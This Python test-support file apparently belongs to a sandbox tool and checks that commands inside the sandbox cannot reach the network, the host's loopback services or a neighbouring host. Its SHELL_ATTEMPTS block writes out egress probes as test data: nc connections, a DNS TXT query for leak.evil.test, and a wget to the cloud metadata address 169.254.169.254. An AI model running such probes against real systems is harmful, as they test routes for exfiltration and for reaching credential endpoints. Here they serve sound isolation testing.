"""The leak matrix, the same for every kind of sandbox: everything that a command inside can try gets
nowhere, and the host's neighbour, to which the default route leads, counts no packet.

A test gives `run`, which runs a command line inside its sandbox and returns what it printed. Where
there is no Python inside, SHELL_ATTEMPTS needs a POSIX shell and busybox alone."""

import contextlib
import json
import subprocess
from pathlib import Path

from support.networks import LeakNet, Outputs
from support.waiting import wait_until

CANARY = "canary-7f3a"
ATTEMPTS = Path(__file__).with_name("leak_attempts.py")
ABSTRACT = "egret-e2e-abstract"

# Serves the canary on loopback, both families, and prints the port.
SERVICES = f"""
import socket, threading
def serve(server):
    while True:
        peer, _ = server.accept()
        peer.sendall(b"{CANARY}")
        peer.close()
four = socket.create_server(("127.0.0.1", 0))
port = four.getsockname()[1]
six = socket.create_server(("::1", port), family=socket.AF_INET6)
servers = [four, six]
"""
# Beside the gate, on an abstract socket as well.
HOST_SERVICES = SERVICES + f"""
abstract = socket.socket(socket.AF_UNIX)
abstract.bind("\\0{ABSTRACT}")
abstract.listen()
servers.append(abstract)
"""
SERVE = """
for server in servers:
    threading.Thread(target=serve, args=(server,)).start()
print(port, flush=True)
"""

# `name<TAB>exit status` a line: only a status of 0 is a way out. $V4 $V6 $PORT are set before.
SHELL_ATTEMPTS = """
try() { name=$1; shift; "$@" >/dev/null 2>&1 </dev/null; printf '%s\\t%s\\n' "$name" $?; }
for port in 22 80 443 853 8080 9999; do
  for at in "$V4" "$V6"; do
    try "tcp $at $port" sh -c "echo out | timeout 3 nc -w 2 $at $port | grep -q canary-7f3a"
    try "udp $at $port" sh -c "echo out | timeout 3 nc -u -w 1 $at $port | grep -q canary-7f3a"
  done
done
for at in "$V4" "$V6" 169.254.169.254 224.0.0.251; do try "icmp $at" ping -c 1 -W 1 "$at"; done
for at in 8.8.8.8 "$V4"; do
  try "dns $at" sh -c "timeout 3 nslookup -type=txt leak.evil.test $at | grep -q 'text ='"
done
try "metadata" timeout 3 wget -q -O /dev/null http://169.254.169.254/latest/meta-data/
try "host loopback" sh -c "timeout 3 nc -w 2 127.0.0.1 $PORT | grep -q canary-7f3a"
"""


class LeakWorld:
    """A host for the gate (LeakNet) with services that a sandbox must not reach."""

    def __enter__(self):
        with contextlib.ExitStack() as stack:
            self.net = stack.enter_context(LeakNet())
            self._services = stack.enter_context(self._serving(HOST_SERVICES))
            self.port = int(self._services.lines[0])
            self._stack = stack.pop_all()
        return self

    def __exit__(self, *_):
        self._stack.close()

    @contextlib.contextmanager
    def _serving(self, source, words=(), **options):
        command = [*words, "/usr/bin/python3", "-c", source + SERVE]
        with Outputs(self.net.host.entering(*command), **options) as running:
            wait_until(lambda: running.lines, what="the services")
            yield running

    @contextlib.contextmanager
    def other_sandbox(self, home):
        """A process sandbox on the same host, with services of its own; its port."""
        words = home.command("run", "--quiet", "--")
        with self._serving(SERVICES, words, cwd=home.work, env=home.environment,
                           stderr=subprocess.DEVNULL) as running:  # fmt: skip
            yield int(running.lines[0])

    def given(self, home=None, other_port=1):
        """What the attempts are told; also the arguments of `python3 -c`."""
        return json.dumps(
            {
                "v4": self.net.V4,
                "v6": self.net.V6,
                "host_v4": self.net.HOST_V4,
                "host_v6": self.net.HOST_V6,
                "loopback_port": self.port,
                "other_port": other_port,
                "control": str(home.state / "control") if home else "/nonexistent",
                "abstract": ABSTRACT,
                "canary": CANARY,
            }
        )

    def attempts(self, home=None, other_port=1, python="/usr/bin/python3"):
        """The command line that tries every way out and prints what each attempt got."""
        return [python, "-c", ATTEMPTS.read_text(), self.given(home, other_port)]

    def ran(self, command, home=None, seconds=90):
        """Runs on the host (egret, or something without a sandbox); its standard output."""
        done = subprocess.run(
            self.net.host.entering(*command), capture_output=True, text=True, timeout=seconds,
            cwd=home and home.work, env=home and home.environment,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout


def assert_nothing_gets_out(world, home, run, own_kernel=False, documented=(), other=None):
    """`run(command)` runs it inside a sandbox whose gate runs on world.net.host with `home`; `other`
    is the home of another sandbox on the same host, if it cannot be the same one. With `own_kernel`
    (a VM) raw sockets and rules inside are the guest's own affair: only what arrives outside
    counts. `documented`: attempts about which this kind of sandbox promises nothing."""
    with world.other_sandbox(other or home) as other_port:
        before = world.net.packets()
        told = json.loads(run(world.attempts(home, other_port)))
        print(json.dumps(told, indent=1))
        assert world.net.packets() - before == 0
    tools = ("nft", "ip ", "nsenter", "as root", "other namespaces")
    if own_kernel:
        told = {name: got for name, got in told.items() if not name.startswith(tools)}
    assert len(told) > 120, "some attempts did not report"
    promised = {name: got for name, got in told.items() if name not in documented}
    reached = {name: got for name, got in promised.items() if "REACHED" in got}
    assert not reached, reached
    if not own_kernel:
        closed = ("raw", "packet", "sctp", "icmp", "family", "io_uring")
        tried = {name: got for name, got in promised.items() if name.startswith(closed)}
        opened = {name: got for name, got in tried.items() if not got.startswith("refused")}
        assert not opened, opened
    home.audit.wait_for(decision="deny", reason="host_ip_literal")


def assert_nothing_gets_out_of_a_shell(world, home, run):
    """The same where there is no Python inside."""
    given = f"V4={world.net.V4} V6={world.net.V6} PORT={world.port}\n"
    before = world.net.packets()
    told = dict(line.split("\t") for line in run(["sh", "-c", given + SHELL_ATTEMPTS]).splitlines())
    print(json.dumps(told, indent=1))
    assert world.net.packets() - before == 0
    assert {name: status for name, status in told.items() if status == "0"} == {}
    assert len(told) > 30, "some attempts did not report"
    home.audit.wait_for(decision="deny", reason="host_ip_literal")
